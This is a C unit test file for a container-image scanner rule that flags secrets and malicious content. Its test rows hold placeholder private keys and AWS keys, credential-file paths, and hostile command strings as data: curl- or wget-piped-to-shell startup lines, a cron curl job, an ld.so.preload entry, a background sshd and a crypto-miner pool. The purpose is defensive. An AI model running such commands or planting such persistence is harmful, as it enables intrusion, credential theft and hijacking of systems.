/* Signs in the contents of files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "lib/judged.h"

#define RULE .rule = "MAI-MAL-001", .profile = "modelarts-inference", .is_open = true
#define WARNED .severity = SEVERITY_WARNING
#define NOTED .severity = SEVERITY_INFO
#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----|x|"
#define AWS "AKIAABCDEFGHIJKLMNOP"
#define FILE_IN(folder, rest) "755 0:0 " folder "/\n644 0:0 " folder "/" rest "\n"

/* clang-format off */
static const struct judged_row ROWS[] = {
	{ RULE, WARNED, .case_name = "private-key", .path = "/root/.ssh/id_rsa", .files = FILE_IN("root/.ssh", "id_rsa = " KEY) },
	{ RULE, WARNED, .case_name = "private-key", .path = "/opt/tls.key", .files = FILE_IN("opt", "tls.key = a|-----BEGIN PRIVATE KEY-----") },
	{ RULE, .files = FILE_IN("opt", "ca.pem = -----BEGIN CERTIFICATE-----") },
	{ RULE, .files = FILE_IN("opt", "notes = " KEY) },
	{ RULE, WARNED, .case_name = "access-key", .path = "/app/.env", .files = FILE_IN("app", ".env = ID=" AWS) },
	{ RULE, WARNED, .case_name = "access-key", .path = "/app/.env", .files = FILE_IN("app", ".env = DB_PASSWORD=hunter2") },
	{ RULE, .files = FILE_IN("app", ".env = DB_PASSWORD=$X|TOKENIZERS_PARALLELISM=falsefalse") },
	{ RULE, WARNED, .case_name = "access-key", .path = "/app/a/x.py", .files = "755 0:0 app/\n" FILE_IN("app/a", "x.py = k = '" AWS "'") },
	{ RULE, .files = FILE_IN("usr", "x.py = k = '" AWS "'") },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.aws/credentials",
	  .files = FILE_IN("root/.aws", "credentials = [default]|aws_secret_access_key = abc") },
	{ RULE, .files = FILE_IN("root/.config", "credentials = aws_secret_access_key = abc") },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.docker/config.json",
	  .files = FILE_IN("root/.docker", "config.json = {\"auths\":{\"x\":{\"auth\":\"abc\"}}}") },
	{ RULE, .files = FILE_IN("root/.docker", "config.json = {\"auths\":{}}") },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.netrc", .files = "644 0:0 root/.netrc = machine a login b password c\n" },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.git-credentials", .files = "644 0:0 root/.git-credentials = https://me:abc@example.org\n" },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.npmrc", .files = "644 0:0 root/.npmrc = //r/:_authToken=abc\n" },
	{ RULE, .files = "644 0:0 root/.npmrc = //r/:_authToken=${NPM_TOKEN}\n" },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.pypirc", .files = "644 0:0 root/.pypirc = [pypi]|password = abc\n" },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.kube/config", .files = FILE_IN("root/.kube", "config = users:|  token: abc") },
	{ RULE, WARNED, .case_name = "credentials", .path = "/root/.obsutilconfig", .files = "644 0:0 root/.obsutilconfig = ak=abc|sk=def\n" },
	{ RULE, WARNED, .case_name = "hidden-secret", .path = "/root/.netrc", .layer = 2,
	  .files = "644 0:0 root/.netrc = password c\n--\nx root/.netrc\n" },
	{ RULE, WARNED, .case_name = "hidden-secret", .path = "/root/.ssh/id_rsa", .layer = 2,
	  .files = FILE_IN("root/.ssh", "id_rsa = " KEY) "--\nx root/.ssh\n" },
	{ RULE, WARNED, .case_name = "hidden-secret", .path = "/root/.netrc", .layer = 2,
	  .files = "644 0:0 root/.netrc = password c\n--\n644 0:0 root/.netrc = nothing\n" },
	{ RULE, .files = "644 0:0 root/.netrc = login c\n--\nx root/.netrc\n" },
	{ RULE, WARNED, .case_name = "authorized-keys", .path = "/root/.ssh/authorized_keys",
	  .files = FILE_IN("root/.ssh", "authorized_keys = ssh-ed25519 AAAA me") },
	{ RULE, .files = FILE_IN("root/.ssh", "authorized_keys = # none|") },
	{ RULE, WARNED, .case_name = "sshd", .path = "/etc/rc3.d/S01ssh", .files = "755 0:0 etc/rc3.d/\nl etc/rc3.d/S01ssh -> ../init.d/ssh\n" },
	{ RULE, WARNED, .case_name = "sshd", .path = "/home/run.sh", .config = "{'Cmd':['/bin/sh','/home/run.sh']}",
	  .files = "644 0:0 home/run.sh = /usr/sbin/sshd -D &\n" },
	{ RULE, .config = "{'Cmd':['/bin/sh','/home/run.sh']}", .files = "644 0:0 home/run.sh = # sshd is not here|cat /etc/sshd_config\n" },
	{ RULE, NOTED, .case_name = "cron", .path = "/etc/cron.d/x", .files = FILE_IN("etc/cron.d", "x = * * * * * root curl a") },
	{ RULE, .files = FILE_IN("etc/cron.d", "x = # * * * * * root curl a") },
	{ RULE, WARNED, .case_name = "preload-file", .path = "/etc/ld.so.preload", .files = "644 0:0 etc/ld.so.preload = /opt/x.so\n" },
	{ RULE, .files = "644 0:0 etc/ld.so.preload = |\n" },
	{ RULE, WARNED, .case_name = "program-in-tmp", .path = "/tmp/a/x", .files = "755 0:0 tmp/a/\n755 0:0 tmp/a/x = \177ELF\n" },
	{ RULE, .files = "644 0:0 tmp/x = text\n" },
	{ RULE, WARNED, .case_name = "packed", .path = "/tmp/x", .files = "755 0:0 tmp/x = \177ELF /lib/ld UPX!\n" },
	{ RULE, WARNED, .case_name = "packed", .path = "/bin/x", .config = "{'Cmd':['/bin/x']}",
	  .files = "755 0:0 bin/x = \177ELF /lib/ld UPX!\n" },
	{ RULE, .files = "755 0:0 bin/x = \177ELF /lib/ld UPX!\n" },
	{ RULE, WARNED, .case_name = "miner", .path = "/opt/xmrig", .files = FILE_IN("opt", "xmrig = x") },
	{ RULE, WARNED, .case_name = "miner", .path = "/tmp/run", .files = "644 0:0 tmp/run = x -o stratum+tcp://pool:1\n" },
	{ RULE, WARNED, .case_name = "piped-download", .path = "/start.sh", .files = "755 0:0 start.sh = bash <(curl -fsSL http://a/b)\n" },
	{ RULE, WARNED, .case_name = "piped-download", .path = "/start.sh", .files = "755 0:0 start.sh = bash -c \"$(wget -qO- http://a)\"\n" },
	{ RULE, .files = "755 0:0 start.sh = # sh <(curl a)|curl -o x http://a; sh y\n" },
	{ RULE, WARNED, .case_name = "start-line", .config = "{'Cmd':['/bin/sh','-c','curl http://a | sh']}" },
	{ RULE, NOTED, .case_name = "python-path", .path = "/opt/site-packages/x.pth",
	  .files = "755 0:0 opt/\n" FILE_IN("opt/site-packages", "x.pth = import os; os.system('x')") },
	{ RULE, .files = "755 0:0 opt/\n" FILE_IN("opt/site-packages", "x.pth = ../lib") },
	{ RULE, .files = FILE_IN("opt", "model.pth = import ") },
};
/* clang-format on */

static void each_content_has_its_sign(void **state)
{
	(void)state;
	judged_check(ROWS, sizeof(ROWS) / sizeof(*ROWS));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_content_has_its_sign),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
